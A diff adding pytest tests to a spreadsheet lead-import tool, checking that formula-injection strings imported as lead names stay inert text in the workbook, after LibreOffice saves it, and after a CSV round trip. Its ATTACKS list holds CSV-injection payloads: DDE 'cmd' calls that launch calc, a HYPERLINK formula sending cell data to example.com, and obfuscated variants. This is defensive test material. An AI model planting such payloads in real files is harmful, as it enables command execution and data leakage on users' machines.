@@ -1,0 +1,146 @@
+"""Cells that begin a formula arrive as text, and are text still when saved and exported by Calc."""
+
+from __future__ import annotations
+
+import csv
+import re
+import shutil
+import subprocess
+import unicodedata
+import zipfile
+from pathlib import Path
+
+import pytest
+import xlsxwriter
+
+from smarketing_xl import actions, cli
+from smarketing_xl.errors import BadData
+from smarketing_xl.hosts import opened
+from smarketing_xl.leads.importing import prepare
+from smarketing_xl.leads.readers import read
+from smarketing_xl.workbook.reading import read as read_table
+from smarketing_xl.workbook.tables import LEADS
+
+ATTACKS = (
+    '=HYPERLINK("http://example.com/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "   =1+1",
+    "\u200b=1+1",
+    "\uff1d1+1",
+    "\uff0bSUM(1)",
+    "\uff0dSUM(1)",
+    "\uff20SUM(1)",
+)
+SOFFICE = shutil.which("soffice")
+
+
+@pytest.fixture
+def imported(tmp_path: Path) -> Path:
+    """A workbook into which every attack was imported, as the name of a lead."""
+    export = tmp_path / "export.csv"
+    with export.open("w", newline="", encoding="utf-8") as stream:
+        rows = csv.writer(stream)
+        rows.writerow(["Lead ID", "Name", "Phone"])
+        rows.writerows([number, attack, "+34 600 111 222"] for number, attack in enumerate(ATTACKS))
+    book = cli.make(tmp_path / "book.xlsm")
+    with opened(book, "file") as live:
+        actions.import_file(live, export, "leads")
+    return book
+
+
+def names(book: Path, folder: Path) -> list[str]:
+    """The names in the Leads sheet of a workbook, once Calc has saved it as .xlsx."""
+    convert(book, "xlsx", folder)
+    with opened(folder / f"{book.stem}.xlsx", "file", save=False) as live:
+        return [str(name) for name in read_table(live, LEADS, checked=())["name"]]
+
+
+def convert(book: Path, kind: str, folder: Path) -> None:
+    subprocess.run(
+        [
+            str(SOFFICE),
+            f"-env:UserInstallation=file://{folder}/profile",
+            "--headless",
+            "--convert-to",
+            kind,
+            "--outdir",
+            str(folder),
+            str(book),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=120,
+    )
+
+
+def expected(attack: str) -> str:
+    return "'" + attack.strip("\t\r \u200b")
+
+
+def test_they_are_text_in_the_workbook(imported: Path) -> None:
+    with zipfile.ZipFile(imported) as package:
+        parts = [package.read(name) for name in package.namelist() if "worksheets/sheet" in name]
+    formulas = b"".join(b"".join(re.findall(rb"<f[ >].*?</f>", part)) for part in parts)
+    assert formulas
+    assert not re.search(rb"cmd|HYPERLINK|1\+1", formulas)
+    with opened(imported, "file", save=False) as live:
+        table = read_table(live, LEADS, checked=())
+    assert table["name"].tolist() == [expected(attack) for attack in ATTACKS]
+    assert set(table["phone"]) == {"+34 600 111 222"}
+
+
+@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
+def test_they_are_text_after_calc_saved_and_exported_them(imported: Path, tmp_path: Path) -> None:
+    folder = tmp_path / "calc"
+    folder.mkdir()
+    assert names(imported, folder) == [expected(attack) for attack in ATTACKS]
+
+
+@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
+def test_they_are_text_when_exported_to_csv_and_opened_again(tmp_path: Path) -> None:
+    export = tmp_path / "export.csv"
+    with export.open("w", newline="", encoding="utf-8") as stream:
+        csv.writer(stream).writerows(
+            [["Lead ID", "Name"], *([str(at), text] for at, text in enumerate(ATTACKS))]
+        )
+    table = prepare(export, "leads").table
+    folder = tmp_path / "calc"
+    folder.mkdir()
+    with xlsxwriter.Workbook(folder / "leads.xlsx") as book:
+        sheet = book.add_worksheet()
+        sheet.write_row(0, 0, ["Lead ID", "Name"])
+        for at, name in enumerate(table["name"]):
+            sheet.write_string(at + 1, 0, str(at))
+            sheet.write_string(at + 1, 1, name)
+    convert(folder / "leads.xlsx", "csv", folder)
+    again = tmp_path / "again"
+    again.mkdir()
+    shutil.copyfile(folder / "leads.csv", again / "leads.csv")
+    convert(again / "leads.csv", "ods", again)
+    shown = read(again / "leads.ods").frame
+    # in the encoding of a CSV file, Calc writes a full-width sign as the plain one
+    plain = [unicodedata.normalize("NFKC", expected(attack)) for attack in ATTACKS]
+    assert [unicodedata.normalize("NFKC", name) for name in shown["Name"]] == plain
+
+
+@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
+def test_an_old_workbook_is_read_and_one_cut_short_is_refused(tmp_path: Path) -> None:
+    source = tmp_path / "leads.csv"
+    source.write_text("Lead ID,Name,Age\n1,Ana,30\n2,Ben,41\n")
+    folder = tmp_path / "calc"
+    folder.mkdir()
+    convert(source, "xls", folder)
+    old = folder / "leads.xls"
+    assert read(old).frame.rows() == [(1.0, "Ana", 30.0), (2.0, "Ben", 41.0)]
+    whole = old.read_bytes()
+    for size in range(600, len(whole), 397):
+        cut = tmp_path / "cut.xls"
+        cut.write_bytes(whole[:size])
+        try:
+            read(cut)
+        except BadData as refused:
+            assert len(refused.faults) == 1
